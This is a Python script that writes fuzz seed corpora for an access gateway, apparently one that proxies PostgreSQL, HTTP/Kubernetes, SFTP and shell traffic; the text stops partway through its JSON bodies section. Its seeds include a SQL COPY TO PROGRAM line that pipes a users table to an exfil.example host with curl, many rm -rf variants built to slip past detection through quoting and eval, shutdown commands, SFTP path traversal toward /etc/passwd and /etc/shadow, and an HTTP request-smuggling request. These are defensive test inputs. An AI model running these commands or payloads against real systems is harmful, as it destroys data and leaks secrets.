"""
Writes the seed corpora (tests/fuzz/corpus/<target>/) from real traffic
shapes, built with the gateway's own codecs so that every byte is what a
client or server puts on the wire: what psql, psycopg and pgbench send and
PostgreSQL answers, kubectl's and curl's requests and the API server's
responses, OpenSSH's sftp conversations, shell lines people type.

    python tests/fuzz/seeds.py        # rewrite the corpora
    python tests/fuzz/seeds.py --check  # fail if they are not what this writes

The files are committed; this script is how they were made (and how to
add one).  The harness docstrings describe each input's layout.
"""

from __future__ import annotations

import argparse
import json
import struct
import sys
from pathlib import Path
from typing import Iterable

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from hoopgw.protocols.postgres import codec  # noqa: E402
from hoopgw.protocols.ssh import sftp  # noqa: E402
from tests.fuzz import fuzz_pg_tracker as tr  # noqa: E402
from tests.fuzz._fuzzing import CORPORA  # noqa: E402

# -- PostgreSQL ------------------------------------------------------------------

FRONTEND, BACKEND, SASL_INITIAL, SASL_RESPONSE, ENCRYPTION, INTERACTIVE, STARTED, SMALL = 0, 1, 2, 4, 2, 8, 0x10, 0x20


def pg(mode: int, seed: int, *messages: codec.Message | bytes) -> bytes:
    return bytes([mode, seed]) + b"".join(m if isinstance(m, bytes) else codec.encode(m) for m in messages)


PSQL_STARTUP = codec.StartupMessage([
    ("user", "alice"), ("database", "appdb"), ("application_name", "psql"), ("client_encoding", "UTF8"),
])
PSYCOPG_STARTUP = codec.StartupMessage([
    ("user", "svc-reports"), ("database", "appdb"), ("client_encoding", "UTF8"), ("DateStyle", "ISO"),
    ("options", "-c statement_timeout=5000"), ("standard_conforming_strings", "on"),
], minor_version=0)
TOKEN = b"eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl"
PARAMS = [("server_version", "15.6"), ("server_encoding", "UTF8"), ("client_encoding", "UTF8"),
          ("DateStyle", "ISO, MDY"), ("integer_datetimes", "on"), ("standard_conforming_strings", "on"),
          ("TimeZone", "UTC"), ("application_name", "psql"), ("is_superuser", "off")]


def _row_description(*names: tuple[str, int]) -> codec.RowDescription:
    return codec.RowDescription([codec.FieldDescription(n, 16384, i + 1, t, 4 if t == 23 else -1, -1, 0)
                                 for i, (n, t) in enumerate(names)])


def _pg_extended(statement: str, query: str, params: list[bytes | None], portal: str = "") -> list[codec.Message]:
    return [
        codec.Parse(statement, query, [23] * len(params)),
        codec.Bind(portal, statement, [0], params, [1]),
        codec.Describe("P", portal),
        codec.Execute(portal, 0),
    ]


def pg_codec() -> dict[str, bytes]:
    ready = codec.ReadyForQuery("I")
    rows = [_row_description(("id", 23), ("name", 25)),
            codec.DataRow.from_values([b"1", b"alice"]), codec.DataRow.from_values([b"2", None]),
            codec.DataRow.from_values([b"3", "Zoë".encode()]), codec.CommandComplete("SELECT 3")]
    return {
        # What clients send.
        "psql-startup-password-query": pg(FRONTEND, 0, PSQL_STARTUP, codec.PasswordMessage(TOKEN),
                                          codec.Query("SELECT id, name FROM users WHERE id = 1;"), codec.Terminate()),
        "psql-sslrequest-then-startup": pg(FRONTEND | INTERACTIVE, 1, codec.SSLRequest(), PSQL_STARTUP,
                                           codec.PasswordMessage(TOKEN), codec.Query("\\dt")),
        "sslrequest-alone": pg(FRONTEND, 0, codec.SSLRequest()),
        "gssencrequest-then-bytes": pg(FRONTEND, 3, codec.GSSENCRequest(), PSQL_STARTUP),
        "cancel-request": pg(FRONTEND, 0, codec.CancelRequest(4242, b"\x01\x02\x03\x04")),
        "scram-client-first": pg(SASL_INITIAL, 5, PSYCOPG_STARTUP, codec.SASLInitialResponse(
            "SCRAM-SHA-256", b"n,,n=,r=rOprNGfwEbeRWgbNEkqO")),
        "scram-client-final": pg(SASL_RESPONSE | STARTED, 0, codec.SASLResponse(
            b"c=biws,r=rOprNGfwEbeRWgbNEkqO%hvYDpWUa2RaTCAfuxFIlj)hNlF$k0,p=dHzbZapWIk4jUhN+Ute9ytag9zjfMHgsqmmiz7AndVQ=")),
        "psycopg-extended-batch": pg(FRONTEND | STARTED, 7,
                                     *_pg_extended("", "SELECT name FROM users WHERE id = $1", [b"42"]), codec.Sync()),
        "psycopg-pipeline": pg(FRONTEND | STARTED, 13,
                               *_pg_extended("_pg3_0", "INSERT INTO audit(x) VALUES ($1)", [b"a"]),
                               *_pg_extended("_pg3_0", "INSERT INTO audit(x) VALUES ($1)", [None], "c1"),
                               codec.Flush(), codec.Close("P", "c1"), codec.Close("S", "_pg3_0"), codec.Sync()),
        "pgbench-prepared": pg(FRONTEND | STARTED, 2,
                               codec.Parse("P0_1", "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;", [23, 23]),
                               codec.Bind("", "P0_1", [], [b"-1234", b"56789"], []), codec.Execute("", 0), codec.Sync()),
        "copy-from-stdin": pg(FRONTEND | STARTED, 5, codec.Query("COPY users (id, name) FROM STDIN;"),
                              codec.CopyData.from_data(b"1\talice\n"), codec.CopyData.from_data(b"2\t\\N\n"),
                              codec.CopyDone(), codec.Sync()),
        "copy-fail": pg(FRONTEND | STARTED, 0, codec.Query("COPY t FROM STDIN"),
                        codec.CopyData.from_data(b"x"), codec.CopyFail("aborted by user")),
        "function-call": pg(FRONTEND | STARTED, 0, codec.FunctionCall(1598, [1], [b"\x00\x00\x00\x01", None], 1)),
        "small-limits-startup": pg(FRONTEND | SMALL, 0, codec.StartupMessage([("user", "a")]), codec.Query("x" * 80)),
        # What servers answer.
        "scram-auth-to-ready": pg(BACKEND, 11, codec.AuthenticationSASL(["SCRAM-SHA-256-PLUS", "SCRAM-SHA-256"]),
                                  codec.AuthenticationSASLContinue(b"r=rOprNGfwEbeRWgbNEkqO%hvYDpWUa2RaTCAfuxFIlj)hNlF$k0,s=W22ZaJ0SNY7soEsUEjb6gQ==,i=4096"),
                                  codec.AuthenticationSASLFinal(b"v=6rriTRBi23WpRR/wtup+mMhUZUn/dB5nLTJRsjl95G4="),
                                  codec.AuthenticationOk(), *(codec.ParameterStatus(k, v) for k, v in PARAMS),
                                  codec.BackendKeyData(31337, b"\xde\xad\xbe\xef"), ready),
        "cleartext-md5-other-auth": pg(BACKEND, 0, codec.AuthenticationCleartextPassword(),
                                       codec.AuthenticationMD5Password(b"salt"), codec.AuthenticationOther(7, b"")),
        "simple-query-result": pg(BACKEND, 9, *rows, ready),
        "extended-results": pg(BACKEND, 4, codec.ParseComplete(), codec.ParameterDescription([23, 25]),
                               _row_description(("name", 25)), codec.BindComplete(), codec.DataRow.from_values([b"bob"]),
                               codec.PortalSuspended(), codec.CommandComplete("SELECT 1"), codec.CloseComplete(),
                               codec.NoData(), codec.EmptyQueryResponse(), codec.ReadyForQuery("T")),
        "copy-out": pg(BACKEND, 6, codec.CopyOutResponse(0, [0, 0]), codec.CopyData.from_data(b"1\talice\n"),
                       codec.CopyData.from_data(b"2\t\\N\n"), codec.CopyDone(), codec.CommandComplete("COPY 2"), ready),
        "copy-in-response": pg(BACKEND, 0, codec.CopyInResponse(1, [1, 1]), codec.CommandComplete("COPY 0"), ready),
        "error-notice-notify": pg(BACKEND, 3,
                                  codec.NoticeResponse([("S", "NOTICE"), ("V", "NOTICE"), ("C", "00000"), ("M", "table does not exist, skipping")]),
                                  codec.ErrorResponse([("S", "ERROR"), ("V", "ERROR"), ("C", "42P01"),
                                                       ("M", 'relation "nope" does not exist'), ("P", "15"),
                                                       ("F", "parse_relation.c"), ("L", "1392"), ("R", "parserOpenTable")]),
                                  codec.NotificationResponse(31337, "jobs", '{"id": 7}'), codec.ReadyForQuery("E")),
        "negotiate-version": pg(BACKEND, 0, codec.NegotiateProtocolVersion(0, ["_pq_.compression"]),
                                codec.GenericMessage.from_body(b"V", b"\x00\x00\x00\x04\x00\x00\x00\x01")),
        "fatal-error": pg(BACKEND, 0, codec.error_response("FATAL", "28P01", "password authentication failed for user \"alice\"")),
        "ssl-answer-then-auth": pg(BACKEND | ENCRYPTION, 1, b"N", codec.AuthenticationCleartextPassword()),
        "small-limits-row": pg(BACKEND | SMALL, 0, codec.DataRow.from_values([b"x" * 70])),
    }


# -- PostgreSQL tracker scripts ---------------------------------------------------


def _answer_index(message: codec.Message) -> int:
    raw = codec.encode(message)
    return next(i for i, m in enumerate(tr.ANSWERS) if codec.encode(m) == raw)


def _info(text: str) -> int:
    return next(i for i, info in enumerate(tr.INFOS) if info.text == text)


def A(*messages: codec.Message) -> list[int]:
    out = []
    for m in messages:
        out += [tr.ANSWER, _answer_index(m)]
    return out


def RAW(*messages: codec.Message) -> list[int]:
    data = b"".join(codec.encode(m) for m in messages)
    return [tr.ANSWER_BYTES, len(data) >> 8, len(data) & 0xFF, *data]


def script(*parts: Iterable[int]) -> bytes:
    return bytes(b for part in parts for b in part)


def pg_tracker() -> dict[str, bytes]:
    cc, rfq = codec.CommandComplete, codec.ReadyForQuery
    select, copy = _info("SELECT 1"), _info("COPY t FROM STDIN")
    rd = tr.ANSWERS[next(i for i, m in enumerate(tr.ANSWERS) if type(m) is codec.RowDescription)]
    err = codec.error_response("ERROR", "42601", 'syntax error at or near "x"')
    refused = codec.error_response("ERROR", "26000", f'prepared statement "{tr.MARKERS[0]}" does not exist')
    return {
        "simple-query": script([tr.QUERY, 1, select], RAW(rd, codec.DataRow.from_values([b"1", None]), cc("SELECT 1"), rfq("I"))),
        "query-three-statements-one-fails": script([tr.QUERY, 3, select, _info("INSERT INTO t VALUES (1)"), select],
                                                   A(cc("SELECT 1"), err, rfq("I"))),
        "empty-query": script([tr.QUERY, 0], A(codec.EmptyQueryResponse(), rfq("I"))),
        "extended-batch": script([tr.PARSE, select, 1, tr.BIND, 1, 1, tr.DESCRIBE, tr.EXECUTE, 1, tr.SYNC],
                                 A(codec.ParseComplete(), codec.BindComplete(), rd), [tr.ANSWER_MANY, 2,
                                 _answer_index(codec.DataRow.from_values([b"1", None])), _answer_index(cc("SELECT 1"))],
                                 A(rfq("I"))),
        "extended-error-skips-to-sync": script([tr.PARSE, select, 1, tr.BIND, 1, 1, tr.EXECUTE, 1, tr.SYNC],
                                               A(err, rfq("I"))),
        "portal-suspended-in-transaction": script([tr.QUERY, 0], A(codec.EmptyQueryResponse(), rfq("I")),
                                                  [tr.PARSE, select, 0, tr.BIND, 2, 0, tr.EXECUTE, 2, tr.SYNC],
                                                  A(codec.ParseComplete(), codec.BindComplete(), codec.PortalSuspended(), rfq("T")),
                                                  [tr.EXECUTE, 2, tr.CLOSE, 0, 2, tr.SYNC],
                                                  A(cc("SELECT 1"), codec.CloseComplete(), rfq("T"))),
        "copy-in-query": script([tr.QUERY, 1, copy], A(codec.CopyInResponse(0, (0,))), [tr.COPY_END],
                                A(cc("COPY 2"), rfq("I"))),
        "copy-in-extended": script([tr.PARSE, copy, 1, tr.BIND, 1, 1, tr.EXECUTE, 1, tr.SYNC],
                                   A(codec.ParseComplete(), codec.BindComplete(), codec.CopyInResponse(0, (0,))),
                                   [tr.COPY_END], A(cc("COPY 2"), rfq("I"))),
        "copy-in-error": script([tr.QUERY, 1, copy], A(codec.CopyInResponse(0, (0,)), err, rfq("I"))),
        "refused-parse-stand-in": script([tr.REFUSED_EXTENDED, 0, 0, tr.SYNC], A(refused, rfq("I"))),
        "refused-statement": script([tr.REFUSED_QUERY, 0], A(refused, rfq("I"))),
        "function-call": script([tr.FUNCTION_CALL],
                                A(codec.GenericMessage.from_body(b"V", b"\x00\x00\x00\x01" + b"7"), rfq("I"))),
        "prepare-deallocate": script([tr.QUERY, 2, _info("PREPARE s1 AS SELECT 1"), _info("DEALLOCATE s1"), tr.VIEW],
                                     A(cc("PREPARE"), cc("DEALLOCATE"), rfq("I")), [tr.VIEW]),
        "notice-and-fatal": script([tr.QUERY, 1, select],
                                   A(codec.NoticeResponse([("S", "NOTICE"), ("C", "00000"), ("M", "hello")]),
                                     codec.error_response("FATAL", "57P01", "terminating connection due to administrator command"))),
        "desync-nothing-outstanding": script(A(codec.ParseComplete())),
        "forward-beyond-the-front-end": script([tr.QUERY, 1, copy, tr.ANY_FORWARD, 1, 4, tr.ANY_FORWARD, 2, 1],
                                               A(codec.CopyInResponse(0, (0,)), err, codec.ParseComplete(), rfq("I"))),
    }


# -- HTTP --------------------------------------------------------------------------------


def http_wire() -> dict[str, bytes]:
    ua = b"User-Agent: kubectl/v1.30.2 (linux/amd64) kubernetes/3968350\r\n"
    auth = b"Authorization: Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.sig\r\n"
    return {
        "kubectl-get-pods": b"GET /k8s/api/v1/namespaces/default/pods?limit=500 HTTP/1.1\r\nHost: 127.0.0.1:18443\r\n" + ua + auth
                            + b"Accept: application/json;as=Table;v=v1;g=meta.k8s.io,application/json\r\nAccept-Encoding: gzip\r\n\r\n",
        "curl-post-json": b"POST /web/api/items HTTP/1.1\r\nHost: gw\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n"
                          b"Content-Type: application/json\r\nContent-Length: 27\r\n\r\n{\"name\": \"x\", \"count\": 1}\r\n",
        "chunked-put-with-trailer": b"PUT /web/x HTTP/1.1\r\nHost: gw\r\nTransfer-Encoding: chunked\r\n\r\n"
                                    b"5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\nX-Checksum: abc\r\n\r\n",
        "pipelined-three": b"GET /a HTTP/1.1\r\nHost: gw\r\n\r\nHEAD /b HTTP/1.1\r\nHost: gw\r\n\r\n"
                           b"DELETE /k8s/api/v1/namespaces/default/pods/web-0 HTTP/1.1\r\nHost: gw\r\nContent-Length: 0\r\n"
                           b"Connection: close\r\n\r\n",
        "http10-keep-alive": b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n\r\nGET /again HTTP/1.0\r\n\r\n",
        "kubectl-exec-websocket-upgrade": b"GET /k8s/api/v1/namespaces/default/pods/web-0/exec?command=sh&stdin=true&stdout=true&tty=true HTTP/1.1\r\n"
                                          b"Host: gw\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-Websocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                                          b"Sec-Websocket-Protocol: v5.channel.k8s.io\r\nSec-Websocket-Version: 13\r\n" + auth + b"\r\n\x82\x85\x00\x00\x00\x00\x00ls\r\n",
        "smuggling-cl-te": b"POST / HTTP/1.1\r\nHost: gw\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
        "obs-fold": b"GET / HTTP/1.1\r\nHost: gw\r\nX-A: 1\r\n  continued\r\n\r\n",
        "bare-lf-head": b"GET / HTTP/1.1\nHost: gw\n\n",
        "response-200-length": b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nAudit-Id: 7f3c\r\n\r\n{}",
        "response-chunked-watch": b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                                  b"2a\r\n{\"type\":\"ADDED\",\"object\":{\"kind\":\"Pod\"}}\n\r\n"
                                  b"2d\r\n{\"type\":\"MODIFIED\",\"object\":{\"kind\":\"Pod\"}}\n\r\n0\r\n\r\n",
        "response-continue-then-201": b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n",
        "response-101-switching": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                                  b"Sec-Websocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n\x81\x02hi",
        "response-204-304": b"HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 304 Not Modified\r\nETag: \"x\"\r\n\r\n",
        "response-until-close": b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nstreamed until the connection closes",
    }


# -- SFTP ---------------------------------------------------------------------------------

CLIENT, SERVER, CONVERSATION, SMALL_SFTP = 0, 1, 2, 4
C, S, REFUSE = 0, 1, 2  # record directions in a conversation
ATTRS = sftp.FileAttributes(size=5, uid=1000, gid=1000, permissions=0o100644, atime=1700000000, mtime=1700000000)
EXTENSIONS = [("posix-rename@openssh.com", b"1"), ("statvfs@openssh.com", b"2"), ("fstatvfs@openssh.com", b"2"),
              ("hardlink@openssh.com", b"1"), ("fsync@openssh.com", b"1"), ("lsetstat@openssh.com", b"1"),
              ("limits@openssh.com", b"1"), ("expand-path@openssh.com", b"1")]


def sftp_stream(mode: int, seed: int, *packets: sftp.Packet) -> bytes:
    return bytes([mode, seed]) + b"".join(sftp.encode(p) for p in packets)


def conversation(mode: int, *records: tuple[int, sftp.Packet]) -> bytes:
    return bytes([mode | CONVERSATION, 0]) + b"".join(bytes([d]) + sftp.encode(p) for d, p in records)


def sftp_corpus() -> dict[str, bytes]:
    h = b"\x00\x00\x00\x01"
    d = b"\x00\x00\x00\x02"
    name = lambda i, *names: sftp.Name(i, [sftp.NameEntry(n, f"-rw-r--r--    1 alice    alice           5 Nov 14 22:13 {n}", ATTRS) for n in names])  # noqa: E731
    ok = lambda i: sftp.Status(i, sftp.StatusCode.OK, "Success", "")  # noqa: E731
    return {
        "client-init-realpath-open-read": sftp_stream(CLIENT, 0, sftp.Init(3), sftp.Realpath(0, "."),
                                                      sftp.Open(1, "notes.txt", sftp.OpenFlags.READ), sftp.Read(2, h, 0, 32768),
                                                      sftp.Read(3, h, 32768, 32768), sftp.Close(4, h)),
        "client-upload": sftp_stream(CLIENT, 9, sftp.Open(5, "/home/alice/up.bin", sftp.OpenFlags.WRITE | sftp.OpenFlags.CREAT | sftp.OpenFlags.TRUNC),
                                     sftp.Write.from_data(6, h, 0, b"\x7fELF" + bytes(60)), sftp.Fsetstat(7, h, sftp.FileAttributes(permissions=0o644)),
                                     sftp.Close(8, h)),
        "client-directory-ops": sftp_stream(CLIENT, 5, sftp.Opendir(1, "/var/log"), sftp.Readdir(2, d), sftp.Close(3, d),
                                            sftp.Mkdir(4, "new", sftp.FileAttributes(permissions=0o755)), sftp.Rmdir(5, "old"),
                                            sftp.Remove(6, "../../etc/passwd"), sftp.Rename(7, "a", "b"),
                                            sftp.Symlink(8, "../secret", "pub/link"), sftp.Stat(9, "x"), sftp.Lstat(10, "y"),
                                            sftp.Setstat(11, "x", sftp.FileAttributes(atime=1, mtime=2)), sftp.Readlink(12, "pub/link")),
        "client-extensions": sftp_stream(CLIENT, 3, sftp.PosixRename(1, "a", "b"), sftp.Hardlink(2, "a", "c"),
                                         sftp.Statvfs(3, "/"), sftp.Fstatvfs(4, h), sftp.Fsync(5, h),
                                         sftp.Lsetstat(6, "l", sftp.FileAttributes(permissions=0o600)),
                                         sftp.Extended(7, "limits@openssh.com", b"")),
        "server-version-name-handle-data": sftp_stream(SERVER, 7, sftp.Version(3, EXTENSIONS), name(0, "/home/alice"),
                                                       sftp.Handle(1, h), sftp.Data.from_data(2, b"hello"),
                                                       sftp.Status(3, sftp.StatusCode.EOF, "End of file", "en"), ok(4)),
        "server-listing-attrs": sftp_stream(SERVER, 2, name(2, ".", "..", "notes.txt"), sftp.AttrsReply(9, ATTRS),
                                            sftp.ExtendedReply(3, struct.pack(">11Q", *range(11))),
                                            sftp.Status(5, sftp.StatusCode.PERMISSION_DENIED, "Permission denied", "en")),
        "server-status-v2": sftp_stream(SERVER, 0, sftp.Status(1, 0)),
        "download": conversation(0, (C, sftp.Init(3)), (S, sftp.Version(3, EXTENSIONS)), (C, sftp.Realpath(0, ".")),
                                 (S, name(0, "/home/alice")), (C, sftp.Open(1, "notes.txt", sftp.OpenFlags.READ)),
                                 (S, sftp.Handle(1, h)), (C, sftp.Read(2, h, 0, 32768)), (S, sftp.Data.from_data(2, b"hello")),
                                 (C, sftp.Read(3, h, 5, 32768)), (S, sftp.Status(3, sftp.StatusCode.EOF, "EOF", "")),
                                 (C, sftp.Close(4, h)), (S, ok(4))),
        "upload-refused-then-allowed": conversation(0, (C, sftp.Init(3)), (S, sftp.Version(3, [])),
                                                    (C | REFUSE, sftp.Open(1, "/etc/shadow", sftp.OpenFlags.WRITE)),
                                                    (C, sftp.Open(2, "up.bin", sftp.OpenFlags.WRITE | sftp.OpenFlags.CREAT)),
                                                    (S, sftp.Handle(2, h)), (C, sftp.Write.from_data(3, h, 0, b"data")),
                                                    (S, ok(3)), (C, sftp.Close(4, h)), (S, ok(4))),
        "listing-symlink": conversation(0, (C, sftp.Realpath(0, ".")), (S, name(0, "/srv/pub")),
                                        (C, sftp.Opendir(1, ".")), (S, sftp.Handle(1, d)), (C, sftp.Readdir(2, d)),
                                        (S, name(2, "a", "b")), (C, sftp.Readdir(3, d)), (S, sftp.Status(3, sftp.StatusCode.EOF, "", "")),
                                        (C, sftp.Symlink(4, "../secret", "link")), (S, ok(4)), (C, sftp.Close(5, d)), (S, ok(5))),
        "reused-request-id": conversation(0, (C, sftp.Stat(1, "a")), (C, sftp.Stat(1, "b"))),
        "flood-small-limits": conversation(SMALL_SFTP, *((C, sftp.Stat(i, "f")) for i in range(10))),
    }


# -- text corpora -------------------------------------------------------------------------

SQL = {
    "select-one": "SELECT 1;",
    "psql-describe-tables": (
        "SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' END as \"Type\",\n"
        "  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class c\n"
        "     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\n"
        "WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND pg_catalog.pg_table_is_visible(c.oid)\n"
        "ORDER BY 1,2;"
    ),
    "cte-delete": "WITH d AS (DELETE FROM payments WHERE created < now() - interval '1 year' RETURNING *) SELECT count(*) FROM d;",
    "unbounded-writes": "UPDATE accounts SET balance = 0; DELETE FROM sessions",
    "merge-upsert": ("MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty "
                     "WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty);\n"
                     "INSERT INTO t (id, v) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET v = excluded.v;"),
    "copy-program": "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- https://exfil.example'; COPY users FROM STDIN WITH (FORMAT csv);",
    "password-alter-role": "ALTER ROLE alice WITH LOGIN PASSWORD 'hunter2' VALID UNTIL '2030-01-01';",
    "password-escape-string": "CREATE ROLE bob LOGIN ENCRYPTED PASSWORD E'it\\'s secret';",
    "password-user-mapping": "CREATE USER MAPPING FOR alice SERVER remote OPTIONS (user 'alice', password 'p@ss');",
    "password-dollar-quoted": "ALTER USER carol PASSWORD $pw$don't$pw$",
    "password-unicode-escape": "ALTER ROLE dave PASSWORD U&'d\\0061ta' UESCAPE '\\';",
    "connection-subscription": "CREATE SUBSCRIPTION sub CONNECTION 'host=db1 dbname=app password=s3cret' PUBLICATION pub;",
    "connection-dblink": "SELECT dblink_connect('c', 'host=db2 user=u password=pw');",
    "do-block": "DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident('audit'); END $$ LANGUAGE plpgsql;",
    "prepare-execute": "PREPARE del(int) AS DELETE FROM t WHERE id = $1; EXECUTE del(1); DEALLOCATE del; DISCARD ALL;",
    "settings": ("SET standard_conforming_strings = off; SET client_encoding TO 'SJIS';\n"
                 "SELECT set_config('client_encoding', 'BIG5', false), pg_catalog.set_config(current_setting('x'), 'on', true);\n"
                 "RESET ALL; ALTER ROLE alice SET search_path = app, public;"),
    "backslashes": "SELECT 'a\\', E'b\\'c', $$d\\$$, 'e''f' AS \"g\\\"; SELECT U&\"d\\0061t\\+000061\" FROM x;",
    "comments": "/* outer /* nested */ still comment */ SELECT -- trailing\n 1 /* between */ + 2; -- end",
    "transactions": "BEGIN ISOLATION LEVEL SERIALIZABLE; SAVEPOINT s; ROLLBACK TO SAVEPOINT s; RELEASE s; COMMIT; PREPARE TRANSACTION 'x';",
    "ddl-mix": ("CREATE TABLE IF NOT EXISTS s.t (id int PRIMARY KEY, v text); CREATE INDEX CONCURRENTLY i ON s.t (v);\n"
                "ALTER TABLE s.t RENAME TO u; DROP TABLE s.u CASCADE; TRUNCATE a, b RESTART IDENTITY;\n"
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $f$ SELECT 1 $f$; GRANT SELECT ON ALL TABLES IN SCHEMA s TO r;"),
    "cursors-maintenance": "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM big; FETCH 100 FROM c; MOVE LAST IN c; CLOSE c; VACUUM (ANALYZE) t; LOCK TABLE t IN EXCLUSIVE MODE;",
    "explain-analyze": "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t WHERE a IN (SELECT a FROM u);",
    "deep-nesting": "SELECT " + "(" * 300 + "1" + ")" * 300 + ";",
    "syntax-error": "SELEC * FORM t WHERE;",
    "empty-and-comments": "  -- nothing\n /* here */ ;;",
    "latin1-bytes": "SELECT 'caf\udce9' AS \"na\udcefve\";",
    "sjis-backslash-shape": "SELECT '\udc83\\' || 'x';",
    # Found by fuzz_sql.py: the marker's closing quote beside text that spells
    # the secret again ('[redacted]'host=x') fooled the harness's own check.
    "redacted-marker-juxtaposed": "CR sub CONNECTION 'ub CONNECTION 'host=cret'host=cret' PUBLI\u0396ATI'host=cret';",
}

COMMANDS = {
    "ls": "ls -la /var/log",
    "rm-rf": "rm -rf /srv/victim",
    "sudo-prefixes": "sudo -u root -- nice -n 10 timeout 5 /bin/rm -Rf -- /srv/victim",
    "sh-c": "sh -c 'cd /srv && rm -fr victim'",
    "bash-lc-nested": "bash -lc \"su -c 'rm -rf /x' root\"",
    "heredoc-to-shell": "cat <<'EOF' | sh\nrm -rf /srv/victim\nEOF\n",
    "here-string": "bash <<< \"rm -rf /x\"",
    "substitutions": "echo $(rm -rf /x) `id` $((1 + 2)) ${HOME:-/root} <(ls /)",
    "find-exec": "find /srv -name '*.tmp' -exec rm -rf {} + -o -execdir rm -r -f {} \\;",
    "xargs-env-S": "xargs -0 rm -rf < list; env -S 'rm -rf /x'",
    "loops-case-function": "for f in /srv/*; do rm -rf \"$f\"; done; case $x in a|b) rm -rf /x;; *) :;; esac; function f { rm -rf /x; }; f",
    "pipelines-lists": "git pull && make -j4 || echo failed & tail -f log |& grep -v x; (cd /; rm -rf x)",
    "eval-trap-alias": "eval \"rm -rf /x\"; trap 'rm -rf /x' EXIT; alias r='rm -rf'",
    "quoting-tricks": "$'\\x72\\x6d' -rf /x; r''m -rf /x; \\rm -rf /x; r\\m -rf /x; \"rm\" '-rf' /x",
    "assignments-coproc": "a=1 b[2]=x PATH=/tmp rm -rf /x; coproc rm -rf /x; ! rm -rf /x",
    "unknown-args": "rm $opts /x; rm * ; rm -{r,f} /x; $cmd -rf /x; /bin/r? -rf /",
    "redirections": "rm -rf /x 2>/dev/null >>log 2>&1 {fd}>f <in &>all",
    "power": "systemctl --no-block reboot; shutdown -h now; poweroff",
    "scp-sink": "scp -t /home/alice/uploads",
    "comment-and-crlf": "ls # rm -rf /x\r\n",
    "unterminated": "echo 'unterminated $(",
    "non-ascii": "echo 'héllo wörld' ✓; touch ファイル",
}


# -- masking -------------------------------------------------------------------------------

# One strategy byte (low two bits: redact, partial, hash, null), then text.
MASKING = {
    "card-spaced": "\x00card 4111 1111 1111 1111 exp 12/29",
    "card-dashed-partial": "\x014111-1111-1111-1111",
    "card-luhn-miss": "\x004111 1111 1111 1112",
    "ssn": "\x02ssn 078-05-1120, 123 45 6789",
    "ssn-bare": "\x03123456789",
    "email": "\x00to: Ada.Lovelace+x@mail.example.org; cc a..b@example.com",
    "phone": "\x01call +44 20 7946 0958 or (415) 555-2671",
    "iban": "\x02DE89 3704 0044 0532 0130 00 / GB82WEST12345698765432",
    "ipv4": "\x00from 10.0.0.1 to 192.168.1.255, not 256.1.1.1",
    "jwt": "\x00Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2ln",
    "aws": "\x03id=AKIAIOSFODNN7EXAMPLE secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "private-key": "\x00-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
    "private-key-split": "\x00-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE",
    "json-row": '\x00{"name": "ada", "card": "5555555555554444", "ip": "127.0.0.1"}',
    "psql-row": "\x01 42 | ada@example.com | 4012888888881881 | 2024-01-15",
    "pattern-like": "\x00(a+)+",
    "nothing": "\x00order 2024-01-15 total 1234.56 version 1.2.3",
}


# -- JSON bodies (one chunk-size byte, then an API server's or an HTTP API's answer) ----------

_LAST = "kubectl.kubernetes.io/last-applied-configuration"
JSON_BODIES = {
    "secret": b"\x07" + json.dumps({
        "kind": "Secret", "apiVersion": "v1",
        "metadata": {"name": "db", "annotations": {_LAST: json.dumps({"kind": "Secret", "data": {"pw": "aHVudGVyMg=="}})}},
        "data": {"pw": "aHVudGVyMg=="}, "type": "Opaque"}).encode(),
    "secret-list": b"\x10" + json.dumps({"kind": "SecretList", "metadata": {"resourceVersion": "7"}, "items": [
        {"metadata": {"name": "a"}, "data": {"k": "dg=="}}, {"kind": "Secret", "stringData": {"x": "y"}}]}).encode(),
    "watch": b"\x05" + b"".join(json.dumps(e).encode() + b"\n" for e in (
        {"type": "ADDED", "object": {"kind": "Pod", "spec": {"containers": [{"env": [{"name": "T", "value": "tok"}]}]}}},
        {"type": "BOOKMARK", "object": {"kind": "Pod", "metadata": {"resourceVersion": "9"}}})),
    "table": b"\x00" + json.dumps({"kind": "Table", "columnDefinitions": [{"name": "Name"}], "rows": [
        {"cells": ["db", 1], "object": {"kind": "PartialObjectMetadata", "metadata": {"annotations": {_LAST: "{"}}}}]}).encode(),
